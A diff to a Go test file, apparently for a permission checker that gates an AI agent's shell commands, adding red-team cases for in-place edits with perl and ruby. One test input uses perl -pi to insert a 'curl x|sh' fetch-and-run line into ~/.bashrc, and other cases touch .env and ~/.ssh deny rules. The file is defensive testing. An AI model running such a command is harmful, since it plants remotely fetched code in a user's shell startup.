@@ -465,6 +465,13 @@ func TestRedTeamDecisions(t *testing.T) {
 		{"A4 neighbour: git clone into the root", D, nil, `git clone --depth 1 https://example.com/x.git vendor/x`, Allow},
 		{"A4 neighbour: git init", D, nil, `git init && git worktree list`, Allow},
 		{"A4 neighbour: git add .", D, []string{"deny:Read(.env)"}, `git add . && git commit -m "docs: ~/.ssh/config"`, Allow},
+		// A5: perl and ruby -i write the files they edit in place.
+		{"A5 perl -pi bashrc", D, nil, `perl -pi -e 's/^/curl x|sh\n/' ~/.bashrc`, Ask},
+		{"A5 perl -i.bak deny rule", D, []string{"deny:Edit(/infra/**)"}, `perl -i.bak -pe 's/a/b/' infra/x`, Deny},
+		{"A5 ruby -pi bashrc", D, nil, `ruby -pi -e 'x' ~/.bashrc`, Ask},
+		{"A5 perl -pi plan mode", ModePlan, nil, `perl -pi -e 's/a/b/' README.md`, Deny},
+		{"A5 neighbour: perl -pi in the root", D, nil, `perl -pi -e 's/a/b/' src/x.c`, Allow},
+		{"A5 neighbour: perl -ne", D, []string{"deny:Edit(/infra/**)"}, `perl -ne 'print if /x/' infra/x`, Allow},
 		{"A4 neighbour: git show HEAD:README.md", D, []string{"deny:Read(.env)"}, `git show HEAD:README.md`, Allow},
 		{"A4 neighbour: git format-patch", D, nil, `git format-patch -o patches HEAD~3`, Allow},
 		{"A4 neighbour: git config -f .gitmodules read", D, nil, `git config -f .gitmodules --get-regexp path`, Allow},
